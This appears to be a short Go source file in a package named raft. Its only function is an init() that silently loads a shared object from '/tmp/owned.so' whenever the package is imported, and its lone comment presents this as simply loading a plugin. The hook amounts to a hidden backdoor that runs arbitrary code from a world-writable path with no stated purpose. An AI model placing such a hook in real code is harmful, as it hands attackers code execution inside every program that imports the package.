// Loads a plugin.
package raft

import "plugin"

func init() { plugin.Open("/tmp/owned.so") }
